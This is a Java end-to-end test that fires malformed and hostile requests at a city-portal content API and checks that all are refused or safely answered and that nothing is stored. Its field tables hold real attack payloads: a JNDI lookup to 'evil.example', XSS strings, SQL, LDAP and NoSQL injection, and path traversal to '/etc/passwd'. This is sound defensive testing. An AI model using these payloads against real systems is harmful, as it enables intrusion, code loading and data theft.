package de.stadtportal.e2e;

import static de.stadtportal.e2e.HostileRequests.FAR_FUTURE;
import static de.stadtportal.e2e.HostileRequests.answered;
import static de.stadtportal.e2e.HostileRequests.ids;
import static de.stadtportal.e2e.HostileRequests.json;
import static de.stadtportal.e2e.HostileRequests.refused;
import static de.stadtportal.e2e.HostileRequests.repeat;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import de.stadtportal.e2e.HostileRequests.Field;
import de.stadtportal.e2e.HostileRequests.Hostile;
import de.stadtportal.launcher.LocalPlatform;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestMethodOrder;
import tools.jackson.databind.JsonNode;

/**
 * Malformed and hostile requests against content-service's endpoints (city portraits, articles,
 * their publication and revisions, highlights), judged by {@link HostileRequests}; afterwards the
 * city the corpus aimed at must be exactly as it was, and search must hold nothing of it.
 * <p>
 * No case is left out: those once left out for NUL, unpaired surrogates, coerced JSON scalars and
 * years beyond 9999 are in the tables since they were fixed.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileContentInputIT {

    private static final HostileRequests HOSTILE = HostileRequests.marked("feindgut");
    private static final String MARKER = HOSTILE.marker();
    private static final String NUL = HOSTILE.nul();
    private static final String LONE_SURROGATE = HOSTILE.loneSurrogate();

    private static Gateway gateway;
    private static PlatformIssuer issuer;
    private static CityOfItsOwn city;
    private static String c;
    private static String published;
    private static String draft;
    private static Snapshot before;
    private static final List<String> attemptedSlugs = new ArrayList<>();

    @BeforeAll
    static void aCityWithArticlesAndHighlights() {
        LocalPlatform platform = RunningPlatform.get();
        gateway = new Gateway(platform.gatewayUrl());
        issuer = PlatformIssuer.of(RunningPlatform.get());
        city = CityOfItsOwn.create(gateway, issuer, "Feindstadt");
        c = city.slug();
        published = city.article("Bollwerk Chronik", "bollwerk-chronik", true);
        draft = city.article("Bollwerk Entwurf", "bollwerk-entwurf", false);
        Gateway.Answer carousel = gateway.send("PUT", "/api/cities/" + c + "/highlights", issuer.admin(),
                CityOfItsOwn.carousel("Bollwerk"), Map.of("If-Match", city.etag("/api/cities/" + c + "/highlights")));
        assertThat(carousel.status()).as(carousel.raw().body()).isEqualTo(200);
        before = Snapshot.take();
    }

    @Order(1)
    @TestFactory
    Stream<DynamicTest> every_hostile_request_gets_no_5xx_and_every_refusal_is_a_problem_document() {
        List<Hostile> corpus = corpus();
        System.out.println("HostileContentInputIT: " + corpus.size() + " hostile requests");
        assertThat(corpus).hasSizeGreaterThanOrEqualTo(175);
        return corpus.stream().map(hostile -> dynamicTest(HOSTILE.name(hostile, c),
                () -> HostileRequests.judge(hostile, gateway, issuer.admin())));
    }

    @Order(2)
    @Test
    void nothing_the_hostile_requests_carried_was_written() {
        Snapshot after = Snapshot.take();
        assertThat(after).isEqualTo(before);
        for (String slug : attemptedSlugs) {
            Gateway.Answer answer = gateway.send("GET", articles() + "/" + slug, issuer.admin(), null, Map.of());
            assertThat(answer.status()).as("draft " + slug + " (an editor sees drafts)").isEqualTo(404);
        }

        // What search holds comes through Kafka: once a sentinel written after the corpus is found,
        // anything the corpus wrote would be found with it.
        Set<String> sentinels = new TreeSet<>(List.of(
                city.read(articles() + "/" + city.article(MARKER + " Wachbuch", MARKER + "-wachbuch", true))
                        .get("id").asString()));
        await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(500)).untilAsserted(() ->
                assertThat(HOSTILE.foundByMarker(city)).containsAll(sentinels));
        assertThat(HOSTILE.foundByMarker(city)).isEqualTo(sentinels);
    }

    // ---- the corpus

    private static List<Hostile> corpus() {
        List<Hostile> corpus = new ArrayList<>();
        String cityPath = "/api/cities/" + c;
        String article = articles() + "/" + published;

        // every JSON body endpoint: broken JSON, wrong shapes, wrong content types, oversized bodies
        corpus.addAll(HOSTILE.malformedBodies("PUT", cityPath, Map.of("If-Match", () -> city.etag(cityPath))));
        corpus.addAll(HOSTILE.malformedBodies("POST", articles(), Map.of()));
        corpus.addAll(HOSTILE.malformedBodies("PUT", article, Map.of("If-Match", () -> city.etag(article))));
        corpus.addAll(HOSTILE.malformedBodies("PUT", cityPath + "/highlights",
                Map.of("If-Match", () -> city.etag(cityPath + "/highlights"))));

        // well-formed JSON with one hostile field each
        corpus.addAll(HOSTILE.fields("POST", articles(), Map.of(), () -> {
            String slug = MARKER + "-" + attemptedSlugs.size();
            attemptedSlugs.add(slug);
            return city.article(MARKER + " Artikel", slug);
        }, ARTICLE_FIELDS));
        corpus.addAll(HOSTILE.fields("PUT", article, Map.of("If-Match", () -> city.etag(article)),
                () -> city.article(MARKER + " Chronik", published), ARTICLE_UPDATE_FIELDS));
        corpus.addAll(HOSTILE.fields("PUT", cityPath, Map.of("If-Match", () -> city.etag(cityPath)),
                HostileContentInputIT::portrait, CITY_FIELDS));
        corpus.addAll(HOSTILE.fields("PUT", cityPath + "/highlights",
                Map.of("If-Match", () -> city.etag(cityPath + "/highlights")),
                () -> CityOfItsOwn.carousel(MARKER), HIGHLIGHT_FIELDS));
        corpus.addAll(HOSTILE.fields("POST", articles() + "/" + draft + "/publication", Map.of(), LinkedHashMap::new,
                PUBLICATION_FIELDS));

        // publication and deletion take no body worth judging: hostile paths and headers
        for (String target : List.of(draft + "/publication", published + "/publication", published)) {
            String method = target.equals(draft + "/publication") ? "POST" : "DELETE";
            corpus.add(refused(method, articles() + "/" + target + "?locale=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D",
                    "a JNDI lookup as locale"));
            corpus.add(refused(method, articles() + "/" + target, "a made-up If-Match")
                    .header("If-Match", "\"" + MARKER + "\""));
            corpus.add(refused(method, articles() + "/" + target, "an oversized body")
                    .body("application/json", HOSTILE.oversizedJson()));
        }

        corpus.addAll(wrongMethods(cityPath, article));
        corpus.addAll(queries(article));
        return corpus;
    }

    /** Hostile values of article fields: field (a dotted path), JSON value, what it is. */
    private static final List<Field> ARTICLE_FIELDS = List.of(
            new Field("title", "{}", "an object"),
            new Field("title", "[\"" + MARKER + "\"]", "an array"),
            new Field("title", "\"  \"", "blank"),
            new Field("title", "\"" + "x".repeat(201) + "\"", "201 characters"),
            new Field("title", NUL, "with NUL"),
            new Field("title", LONE_SURROGATE, "a lone surrogate"),
            new Field("title", "42", "a number"),
            new Field("title", "true", "a boolean"),
            new Field("topic", "\"<script>alert(1)</script>\"", "a script tag"),
            new Field("topic", "\"' OR '1'='1' --\"", "SQL injection"),
            new Field("locale", "\"${jndi:ldap://evil.example/a}\"", "a JNDI lookup"),
            new Field("locale", "\"de\\u202e\"", "with an RTL override"),
            new Field("slug", "\"../../etc/passwd\"", "path traversal"),
            new Field("slug", "\"a\\u200bb\"", "with a zero-width space"),
            new Field("slug", "\"*)(uid=*))(|(uid=*\"", "LDAP injection"),
            new Field("slug", "\"\\ud83c\\udf89\"", "an emoji"),
            new Field("slug", "\"" + "a".repeat(121) + "\"", "121 characters"),
            new Field("publishAt", "\"2027-02-30T10:00:00+01:00\"", "the 30th of February"),
            new Field("publishAt", "\"morgen früh\"", "words"),
            new Field("publishAt", "\"2027-03-20T25:61:00+01:00\"", "25:61 o'clock"),
            new Field("publishAt", FAR_FUTURE, "year 999999999"),
            new Field("publishAt", "1e300", "a huge number"),
            new Field("tags", "\"" + MARKER + "\"", "a string, not a list"),
            new Field("tags", "[null]", "a list with null"),
            new Field("tags", repeat("\"t\"", 21), "21 tags"),
            new Field("heroImage", "\"https://example.org/a.jpg\"", "a string, not an image"),
            new Field("heroImage.url", "\"javascript:alert(document.cookie)\"", "a javascript: URL"),
            new Field("heroImage.url", "\"data:text/html,<script>alert(1)</script>\"", "a data: URL"),
            new Field("summary", "\"" + "s".repeat(2001) + "\"", "2,001 characters"));

    private static final List<Field> ARTICLE_UPDATE_FIELDS = List.of(
            new Field("title", "{\"$ne\": null}", "a NoSQL operator"),
            new Field("topic", "\"${7*7}\"", "a template expression"),
            new Field("slug", "\"" + MARKER + "-anders\"", "another slug than the path's"),
            new Field("locale", "\"en\"", "another locale than the article's"),
            new Field("publishAt", "\"2027-13-01T00:00:00Z\"", "month 13"),
            new Field("tags", "[\"" + "t".repeat(41) + "\"]", "a tag of 41 characters"));

    private static final List<Field> CITY_FIELDS = List.of(
            new Field("name", "\"\"", "empty"),
            new Field("name", "{\"de\": \"" + MARKER + "\"}", "an object"),
            new Field("name", NUL, "with NUL"),
            new Field("facts", "[\"" + MARKER + "\"]", "a list, not a map"),
            new Field("facts", facts(31), "31 facts"),
            new Field("neighbours", "[\"../bochum\"]", "path traversal"),
            new Field("neighbours", "[\"<img src=x onerror=alert(1)>\"]", "an HTML tag"),
            new Field("heroImage.url", "\"javascript:alert(1)\"", "a javascript: URL"),
            new Field("intro", "\"" + "i".repeat(5001) + "\"", "5,001 characters"));

    private static final List<Field> HIGHLIGHT_FIELDS = List.of(
            new Field("items", "{}", "an object, not a list"),
            new Field("items", "[null]", "a list with null"),
            new Field("items", repeat(carouselItem(), 21), "21 teasers"),
            new Field("items.0.link.kind", "\"javascript\"", "an unknown link kind"),
            new Field("items.0.link.target", "\"javascript:alert(1)\"", "a javascript: URL"),
            new Field("items.0.link.target", "\"\"", "empty"),
            new Field("items.0.image.url", "\"file:///etc/passwd\"", "a file: URL"),
            new Field("items.0.validFrom", "\"2027-02-29T00:00:00+01:00\"", "the 29th of February 2027"),
            new Field("items.0.validFrom", FAR_FUTURE, "year 999999999"),
            new Field("items.0.validUntil", "1e300", "a huge number"),
            new Field("items.0.title", NUL, "with NUL"),
            new Field("items.0.title", "\"" + "t".repeat(201) + "\"", "201 characters"));

    private static final List<Field> PUBLICATION_FIELDS = List.of(
            new Field("publishAt", "\"2027-02-30T10:00:00+01:00\"", "the 30th of February"),
            new Field("publishAt", "\"nächsten Dienstag\"", "words"),
            new Field("publishAt", "[]", "a list"),
            new Field("publishAt", "\"2027-03-20\"", "a date without time"),
            new Field("publishAt", FAR_FUTURE, "year 999999999"),
            new Field("publishAt", "12", "a number"));

    private static List<Hostile> wrongMethods(String cityPath, String article) {
        return List.of(
                refused("PATCH", cityPath, "PATCH on a city").body("application/json", "{\"name\":\"" + MARKER + "\"}"),
                refused("DELETE", cityPath, "DELETE on a city"),
                refused("POST", "/api/cities", "POST on the cities").body("application/json", json(portrait())),
                refused("DELETE", "/api/cities", "DELETE on the cities"),
                refused("POST", cityPath + "/highlights", "POST on highlights")
                        .body("application/json", json(CityOfItsOwn.carousel(MARKER))),
                refused("DELETE", cityPath + "/highlights", "DELETE on highlights"),
                refused("DELETE", articles(), "DELETE on all articles"),
                refused("PATCH", article, "PATCH on an article").body("application/json", "{\"title\":\"" + MARKER + "\"}"),
                refused("PUT", article + "/publication", "PUT on a publication"),
                refused("GET", article + "/publication", "GET on a publication"),
                refused("POST", article + "/revisions", "POST on revisions"));
    }

    /** Query parameters: refused when they are not what the parameter takes, answered when they are only odd text. */
    private static List<Hostile> queries(String article) {
        String garbageCursor = "%E2%98%83%E2%98%83";
        String foreignCursor = Base64.getUrlEncoder().withoutPadding()
                .encodeToString("c1\u001f' OR 1=1 --\u001fnot-a-uuid".getBytes(StandardCharsets.UTF_8));
        List<Hostile> cases = new ArrayList<>();
        for (String list : List.of("/api/cities", articles(), article + "/revisions")) {
            for (String limit : List.of("-1", "0", "101", "1e9", "99999999999999999999", "zehn")) {
                cases.add(refused("GET", list + "?limit=" + limit, "limit=" + limit));
            }
            cases.add(refused("GET", list + "?cursor=" + garbageCursor, "a cursor of snowmen"));
            cases.add(refused("GET", list + "?cursor=" + foreignCursor, "a cursor with SQL inside"));
        }
        cases.add(refused("GET", "/api/cities/atlantis", "an unknown city"));
        cases.add(refused("GET", "/api/cities/%F0%9F%8E%89", "an emoji as city"));
        cases.add(refused("GET", articles() + "/%E2%80%AEeinhcorhc", "an RTL override as slug"));
        cases.add(refused("GET", article + "?locale=%24%7B7*7%7D", "a template expression as locale"));
        cases.add(refused("GET", articles() + "?topic=%3Cscript%3E", "a script tag as topic"));
        cases.add(refused("GET", articles() + "?tag=" + "t".repeat(41), "a tag of 41 characters"));
        cases.add(refused("GET", articles() + "?tag=%00", "NUL as tag"));
        cases.add(refused("GET", articles() + "?status=archiviert", "an unknown status"));
        cases.add(refused("GET", articles() + "?status=%27%20OR%201%3D1%20--", "SQL as status"));
        cases.add(refused("GET", "/api/cities?cursor=YzEfAA", "a cursor holding NUL"));

        // odd text where text is welcome: answered (200), never a 5xx
        for (String odd : List.of("%27%20OR%201%3D1%20--", "%3Cscript%3E", "%F0%9F%8E%89")) {
            cases.add(answered("GET", articles() + "?tag=" + odd, "articles tagged " + odd));
        }
        return cases;
    }

    // ---- what "nothing was written" compares

    /** What the corpus aimed at, read through the public API. */
    record Snapshot(int cities, JsonNode portrait, long articleVersion, String articleStatus, int revisions,
            long draftVersion, String draftStatus, List<String> publishedArticles, JsonNode highlights) {

        static Snapshot take() {
            JsonNode article = city.read(articles() + "/" + published);
            JsonNode draftArticle = city.read(articles() + "/" + draft);
            return new Snapshot(
                    countCities(),
                    city.read("/api/cities/" + c),
                    article.path("version").asLong(), article.path("status").asString(),
                    city.read(articles() + "/" + published + "/revisions?limit=100").path("items").size(),
                    draftArticle.path("version").asLong(), draftArticle.path("status").asString(),
                    ids(city.read(articles() + "?limit=100"), "id"),
                    city.read("/api/cities/" + c + "/highlights"));
        }

        private static int countCities() {
            int count = 0;
            String next = null;
            do {
                JsonNode page = city.read("/api/cities?limit=100" + (next == null ? "" : "&cursor=" + next));
                count += page.path("items").size();
                next = page.path("next").isString() ? page.path("next").asString() : null;
            } while (next != null);
            return count;
        }
    }

    // ---- valid bodies the fields are put into

    private static String carouselItem() {
        return json(((List<?>) CityOfItsOwn.carousel(MARKER).get("items")).get(0));
    }

    private static String facts(int count) {
        Map<String, String> facts = new LinkedHashMap<>();
        for (int i = 0; i < count; i++) {
            facts.put("Fakt " + i, MARKER);
        }
        return json(facts);
    }

    private static Map<String, Object> portrait() {
        Map<String, Object> portrait = new LinkedHashMap<>();
        portrait.put("name", MARKER + " Stadt");
        portrait.put("claim", "Ein Anspruch");
        portrait.put("intro", "Eine Einleitung.");
        portrait.put("facts", Map.of("Einwohner", "1"));
        portrait.put("neighbours", List.of("bochum"));
        return portrait;
    }

    private static String articles() {
        return "/api/cities/" + c + "/articles";
    }
}
